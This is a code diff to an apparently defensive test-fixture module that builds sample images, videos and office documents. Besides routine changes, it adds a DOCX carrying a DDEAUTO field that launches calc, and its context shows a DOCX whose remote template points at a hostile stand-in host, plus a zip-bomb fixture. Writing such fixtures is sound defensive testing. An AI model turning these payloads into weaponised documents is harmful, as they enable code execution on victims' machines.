@@ -8,6 +8,8 @@ from collections.abc import Iterable, Mapping, Sequence
 from fractions import Fraction
 from io import BytesIO
 from math import sin
+from pathlib import Path
+from tempfile import NamedTemporaryFile
 from typing import Any, Final
 
 import av
@@ -30,10 +32,12 @@ def picture(width: int, height: int, mode: str = "RGB") -> Image.Image:
     return made.convert(mode)
 
 
-def jpeg(width: int = 60, height: int = 40, exif: bool = True, orientation: int = 1) -> bytes:
+def jpeg(
+    width: int = 60, height: int = 40, exif: bool = True, orientation: int = 1, mode: str = "RGB"
+) -> bytes:  # fmt: skip
     """A photograph; with EXIF it says where it was taken, and how the camera was held."""
     more = {"exif": _notes(orientation), "comment": b"COMMENT-OF-ANA"} if exif else {}
-    return _saved(picture(width, height), "JPEG", quality=95, **more)
+    return _saved(picture(width, height, mode), "JPEG", quality=95, **more)
 
 
 def png(width: int = 60, height: int = 40, mode: str = "RGB") -> bytes:
@@ -118,13 +122,17 @@ def xlsx(rows: Iterable[Sequence[object]], title: str = "成绩") -> bytes:
     return _written(made)
 
 
-def mp4(seconds: float = 2, width: int = 64, height: int = 48, sound: bool = True, codec: str = "libx264") -> bytes:
-    """A video that turns from black to white."""
-    return _film("mp4", codec, "aac" if sound else None, seconds, width, height)
+def mp4(
+    seconds: float = 2, width: int = 64, height: int = 48, sound: bool = True, codec: str = "libx264",
+    first: bool = False,
+) -> bytes:  # fmt: skip
+    """A video that turns from black to white; its index may come first."""
+    options = {"movflags": "faststart"} if first else {}
+    return _film("mp4", codec, "aac" if sound else None, seconds, width, height, options)
 
 
 def webm(seconds: float = 2, width: int = 64, height: int = 48) -> bytes:
-    return _film("webm", "libvpx", None, seconds, width, height)
+    return _film("webm", "libvpx", None, seconds, width, height, {})
 
 
 def mp3(seconds: float = 1) -> bytes:
@@ -197,6 +205,11 @@ def docx_with_remote_template() -> bytes:
     one = f'<Relationship Id="rId1" Type="{kind}" Target="https://hostile.example/a.dotm" TargetMode="External"/>'
     settings = f'<Relationships xmlns="{rels}">{one}</Relationships>'
     return with_members(docx(LESSON), {"word/_rels/settings.xml.rels": settings.encode()})
+
+
+def docx_that_runs_another_programme() -> bytes:
+    """A document with a field that asks another programme for its value."""
+    return with_words(docx("DDE"), "word/document.xml", "DDE", "</w:t><w:instrText>DDEAUTO calc</w:instrText><w:t>")
 
 
 def zip_bomb_docx(gigabytes: int = 1, lies: bool = False) -> bytes:
@@ -341,19 +354,23 @@ def _written(made: Any) -> bytes:
     return written.getvalue()
 
 
-def _film(container: str, codec: str, sound: str | None, seconds: float, width: int, height: int) -> bytes:
-    made = BytesIO()
-    frames = max(1, int(10 * seconds))
-    with av.open(made, "w", format=container) as file:
-        video: Any = file.add_stream(codec, rate=10, width=width, height=height, pix_fmt="yuv420p")
-        audio: Any = file.add_stream(sound, rate=8000, layout="mono") if sound else None
-        for number in range(frames):
-            shade = 255 * number // frames
-            file.mux(video.encode(av.VideoFrame.from_image(Image.new("RGB", (width, height), (shade, shade, shade)))))
-        file.mux(video.encode(None))
-        if audio is not None:
-            _play(file, audio, 8000, seconds)
-    return made.getvalue()
+def _film(
+    container: str, codec: str, sound: str | None, seconds: float, width: int, height: int, options: dict[str, str]
+) -> bytes:  # fmt: skip
+    # Its index is only put first in a file that can be read again.
+    with NamedTemporaryFile() as made:
+        frames = max(1, int(10 * seconds))
+        with av.open(made.name, "w", format=container, options=options) as file:
+            video: Any = file.add_stream(codec, rate=10, width=width, height=height, pix_fmt="yuv420p")
+            audio: Any = file.add_stream(sound, rate=8000, layout="mono") if sound else None
+            for number in range(frames):
+                shade = 255 * number // frames
+                grey = Image.new("RGB", (width, height), (shade, shade, shade))
+                file.mux(video.encode(av.VideoFrame.from_image(grey)))
+            file.mux(video.encode(None))
+            if audio is not None:
+                _play(file, audio, 8000, seconds)
+        return Path(made.name).read_bytes()
 
 
 def _sound(container: str, codec: str, seconds: float) -> bytes:
